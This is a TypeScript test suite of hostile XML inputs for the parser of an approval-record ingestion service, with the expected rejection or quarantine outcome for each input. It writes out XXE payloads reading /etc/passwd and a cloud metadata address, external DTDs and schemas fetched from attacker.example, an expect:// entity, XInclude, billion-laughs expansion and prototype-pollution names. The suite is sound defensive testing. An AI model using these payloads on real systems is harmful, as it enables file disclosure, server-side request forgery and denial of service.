import iconv from 'iconv-lite';
import {
  accepted,
  acceptedOrQuarantined,
  partly,
  quarantined,
  refused,
  unreadable,
  type CaseGroup,
} from '../hostile-case.ts';
import { APPROVAL_CASES, approvalCase, approvalDocument } from '../records.ts';
import { pushCases, type Lane } from '../wire.ts';

const GOOD = approvalDocument(approvalCase());
const badText = quarantined('bad-text');

function field(content: string): string {
  return approvalDocument(approvalCase(`<MEMO>${content}</MEMO>`));
}

const LAUGHS = Array.from({ length: 10 }, (_, level) =>
  level === 0 ? '<!ENTITY l0 "lol">' : `<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`,
).join('');

function withDoctype(inner: string, more = ''): string {
  return approvalDocument(approvalCase(more), `<?xml version="1.0"?><!DOCTYPE APASINFO [${inner}]>`);
}

/** Declarations are refused altogether: nothing is expanded, nothing is fetched. */
const entities = pushCases(APPROVAL_CASES, [
  ['a billion laughs', withDoctype(LAUGHS, '<MEMO>&l9;</MEMO>'), unreadable],
  [
    'one entity of 100 kB used 10,000 times',
    () => withDoctype(`<!ENTITY a "${'a'.repeat(100_000)}">`, `<MEMO>${'&a;'.repeat(10_000)}</MEMO>`),
    unreadable,
  ],
  [
    'an entity that contains itself',
    withDoctype('<!ENTITY a "&b;"><!ENTITY b "&a;">', '<MEMO>&a;</MEMO>'),
    unreadable,
  ],
  [
    'an entity from a file of the server',
    withDoctype('<!ENTITY f SYSTEM "file:///etc/passwd">', '<MEMO>&f;</MEMO>'),
    unreadable,
  ],
  [
    'an entity from another server',
    withDoctype('<!ENTITY f SYSTEM "http://169.254.169.254/latest">', '<MEMO>&f;</MEMO>'),
    unreadable,
  ],
  [
    'an entity from a program',
    withDoctype('<!ENTITY f SYSTEM "expect://id">', '<MEMO>&f;</MEMO>'),
    unreadable,
  ],
  ['a parameter entity', withDoctype('<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">%p;'), unreadable],
  [
    'a DTD of another server',
    approvalDocument(approvalCase(), '<!DOCTYPE APASINFO SYSTEM "http://attacker.example/x.dtd">'),
    unreadable,
  ],
  ['a DOCTYPE that declares nothing', approvalDocument(approvalCase(), '<!DOCTYPE APASINFO>'), unreadable],
  [
    'a DOCTYPE in small letters',
    approvalDocument(approvalCase(), '<!doctype apasinfo [<!entity a "b">]>'),
    unreadable,
  ],
  ['a declaration in the middle of a row', approvalDocument(approvalCase('<!ENTITY a "b">')), unreadable],
  ['an entity nobody declared', field('&company;'), badText],
  ['entities of HTML', field('a&nbsp;b&copy;'), badText],
  ['an entity outside the rows', GOOD.replace('WJ-YCK', '&company;'), unreadable],
  ['an ampersand alone', field('张&李'), badText],
  ['a reference that does not end', field('&#65'), badText],
  ['a reference to NUL', field('&#0;'), badText],
  ['a reference to a control character', field('&#x1;'), badText],
  ['a reference to half a surrogate pair', field('&#xD800;'), badText],
  ['a reference beyond Unicode', field('&#x110000;'), badText],
  ['a reference of 100,000 digits', () => field(`&#${'1'.repeat(100_000)};`), badText],
  ['a negative reference', field('&#-65;'), badText],
  ['100,000 references', () => field('&#65;'.repeat(100_000)), acceptedOrQuarantined],
  ['100,000 ampersands', () => field('&'.repeat(100_000)), badText],
  [
    'XInclude',
    field('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
    acceptedOrQuarantined,
  ],
  [
    'a style sheet to be fetched',
    approvalDocument(approvalCase(), '<?xml-stylesheet href="http://attacker.example/x.xsl"?>'),
    accepted,
  ],
  [
    'a schema to be fetched',
    GOOD.replace(
      '<APASINFO>',
      '<APASINFO xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="http://attacker.example/x.xsd">',
    ),
    accepted,
  ],
]);

const syntax = pushCases(APPROVAL_CASES, [
  ['no document', '', unreadable],
  ['a declaration and no document', '<?xml version="1.0"?>', unreadable],
  ['a comment and no document', '<!-- nothing -->', unreadable],
  ['text and no document', 'APASINFO', unreadable],
  ['JSON', '{"PROJID":"1"}', unreadable],
  ['a page that is no XML', '<html><body><br>502<p></body></html>', unreadable],
  ['a document that is cut off', GOOD.slice(0, -20), unreadable],
  ['a document that is cut off in a tag', GOOD.slice(0, GOOD.indexOf('<TOWN') + 3), unreadable],
  ['a row that does not end', GOOD.replace('</CASE>', ''), unreadable],
  ['an element that does not end', GOOD.replace('</TOWN>', ''), unreadable],
  ['elements that overlap', GOOD.replace('<TOWN>湖塘镇</TOWN>', '<TOWN><B>湖塘镇</TOWN></B>'), unreadable],
  ['an end without a start', GOOD.replace('<TOWN>', ''), unreadable],
  ['an end in other letters', GOOD.replace('</TOWN>', '</Town>'), unreadable],
  ['two documents', GOOD + GOOD, unreadable],
  ['text behind the document', `${GOOD}ok`, unreadable],
  ['a NUL behind the document', `${GOOD}\0`, unreadable],
  ['an element whose name begins with a digit', field('<1A>x</1A>'), unreadable],
  ['an element whose name is empty', field('<>x</>'), unreadable],
  ['a blank before the name', field('< A>x</A>'), unreadable],
  ['an attribute without quotes', field('<A b=c>x</A>'), unreadable],
  ['an attribute without a value', field('<A b>x</A>'), unreadable],
  ['an attribute twice', field('<A b="1" b="2">x</A>'), unreadable],
  ['a tag in an attribute', field('<A b="<">x</A>'), unreadable],
  ['attributes without a blank between', field('<A b="1"c="2">x</A>'), unreadable],
  ['a comment that does not end', field('<!-- x'), unreadable],
  ['CDATA that does not end', field('<![CDATA[ x'), unreadable],
  ['an instruction that does not end', field('<?x'), unreadable],
  ['a smaller-than sign in the text', field('1 < 2'), unreadable],
  ['raw control characters', field('a\u0001\u000bb'), badText],
  ['a raw NUL', field('a\0b'), badText],
  ['raw noncharacters', field('a\uffffb'), badText],
  [
    'one bad row among good ones',
    approvalDocument(approvalCase() + approvalCase('<MEMO>&x;</MEMO>')),
    partly('bad-text'),
  ],
]);

const structure = pushCases(APPROVAL_CASES, [
  ['another root', '<ROWS><ROW><PROJID>1</PROJID></ROW></ROWS>', unreadable],
  ['rows under another parent', GOOD.replaceAll('BODY>', 'DATA>'), unreadable],
  [
    'a SOAP envelope around it',
    `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>${GOOD}</soap:Body></soap:Envelope>`,
    unreadable,
  ],
  ['no rows', approvalDocument(''), accepted],
  ['an empty row', approvalDocument('<CASE/>'), quarantined('missing-required')],
  ['a row of nothing but text', approvalDocument('<CASE>x</CASE>'), quarantined('missing-required')],
  ['a namespace for everything', GOOD.replace('<APASINFO>', '<APASINFO xmlns="urn:x">'), accepted],
  [
    'a prefix for everything',
    GOOD.replaceAll(/<(\/?)([A-Z])/gu, '<$1n:$2').replace('<n:APASINFO>', '<n:APASINFO xmlns:n="urn:x">'),
    accepted,
  ],
  ['a prefix nobody declared', GOOD.replaceAll('TOWN>', 'zz:TOWN>'), acceptedOrQuarantined],
  ['two names that differ in their prefix only', field('<a:X>1</a:X><b:X>2</b:X>'), acceptedOrQuarantined],
  ['a name of two colons', field('<a:b:c>1</a:b:c>'), acceptedOrQuarantined],
  [
    'the xml namespace bound anew',
    GOOD.replace('<APASINFO>', '<APASINFO xmlns:xml="urn:x">'),
    acceptedOrQuarantined,
  ],
  ['the key as a list', approvalDocument(approvalCase('<PROJID>2</PROJID>')), quarantined('source-schema')],
  [
    'the key with an element in it',
    approvalDocument('<CASE><PROJID><A>1</A></PROJID></CASE>'),
    quarantined('source-schema'),
  ],
  ['the key as nil', approvalDocument('<CASE><PROJID xsi:nil="true"/></CASE>'), quarantined('source-schema')],
  [
    'elements named as the prototype is',
    field('<__proto__><PROJID>2</PROJID></__proto__><constructor>1</constructor><toString>1</toString>'),
    acceptedOrQuarantined,
  ],
  [
    'attributes named as the prototype is',
    approvalDocument(approvalCase().replace('<CASE>', '<CASE __proto__="1" constructor="2">')),
    acceptedOrQuarantined,
  ],
  [
    'the key in CDATA',
    GOOD.replace('<PROJID>', '<PROJID><![CDATA[').replace('</PROJID>', ']]></PROJID>'),
    accepted,
  ],
  ['the key with a comment in it', GOOD.replace('<PROJID>', '<PROJID>32<!-- 04 -->'), acceptedOrQuarantined],
  ['31 elements in each other', field('<a>'.repeat(28) + '</a>'.repeat(28)), acceptedOrQuarantined],
  ['40 elements in each other', field('<a>'.repeat(40) + '</a>'.repeat(40)), unreadable],
  ['100,000 elements in each other', () => '<a>'.repeat(100_000), unreadable],
  [
    '1,000 attributes on an element',
    field(`<A ${Array.from({ length: 1_000 }, (_, place) => `a${place}=""`).join(' ')}/>`),
    unreadable,
  ],
  ['3,000 elements in a row', field('<a/>'.repeat(3_000)), quarantined('record-too-large')],
  [
    '100,000 blank lines between attributes',
    () => field(`<A${'\n'.repeat(100_000)}b="1"/>`),
    acceptedOrQuarantined,
  ],
  ['100,000 blanks in a tag that does not end', () => field(`<A${' '.repeat(100_000)}`), unreadable],
  ['10,001 rows', () => approvalDocument('<CASE/>'.repeat(10_001)), unreadable],
  ['a row of 2 MiB', () => field('字'.repeat(700_000)), quarantined('record-too-large')],
  ['a head of 5 MiB', () => GOOD.replace('WJ-YCK', 'x'.repeat(5_242_880)), accepted],
  ['a name of 100,000 characters', () => field(`<${'a'.repeat(100_000)}/>`), acceptedOrQuarantined],
]);

const WINDOW: Lane = { ...APPROVAL_CASES, contentType: 'application/xml' };
const GB = iconv.encode(GOOD, 'gb18030');

/** What the Content-Type says counts; without it, what the stream is registered with: GB18030 (RFC 7303, 3). */
const encodings = pushCases(WINDOW, [
  [
    'GB18030 that declares UTF-8',
    iconv.encode(`<?xml version="1.0" encoding="UTF-8"?>${GOOD}`, 'gb18030'),
    refused([200, 400]),
  ],
  [
    'GB18030 that declares UTF-16',
    iconv.encode(`<?xml version="1.0" encoding="UTF-16"?>${GOOD}`, 'gb18030'),
    refused([200, 400]),
  ],
  [
    'GB18030 that declares an encoding nobody knows',
    iconv.encode(`<?xml version="1.0" encoding="x-secret"?>${GOOD}`, 'gb18030'),
    refused([200, 400]),
  ],
  ['GB18030 that declares nothing', GB, accepted],
  [
    'UTF-8 that declares UTF-8, to a stream of GB18030',
    `<?xml version="1.0" encoding="UTF-8"?>${GOOD}`,
    unreadable,
  ],
  ['UTF-8 that declares GB18030', `<?xml version="1.0" encoding="GB18030"?>${GOOD}`, unreadable],
  ['UTF-8 with a byte order mark', `\ufeff${GOOD}`, unreadable],
  [
    'UTF-16 with a byte order mark',
    Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(GOOD, 'utf16le')]),
    unreadable,
  ],
  [
    'half a character in GB18030',
    Buffer.concat([GB.subarray(0, GB.indexOf('</TOWN>') - 1), GB.subarray(GB.indexOf('</TOWN>'))]),
    unreadable,
  ],
  [
    'a version of XML that is none',
    iconv.encode(`<?xml version="9.9"?>${GOOD}`, 'gb18030'),
    refused([200, 400]),
  ],
  [
    'a declaration that is not at the start',
    iconv.encode(` <?xml version="1.0"?>${GOOD}`, 'gb18030'),
    refused([200, 400]),
  ],
]);

export const xmlEntities: CaseGroup = { kind: 'XML: entities and what they fetch', cases: entities };
export const xmlSyntax: CaseGroup = { kind: 'XML: syntax', cases: syntax };
export const xmlStructure: CaseGroup = {
  kind: 'XML: structure and encoding',
  cases: [...structure, ...encodings],
};
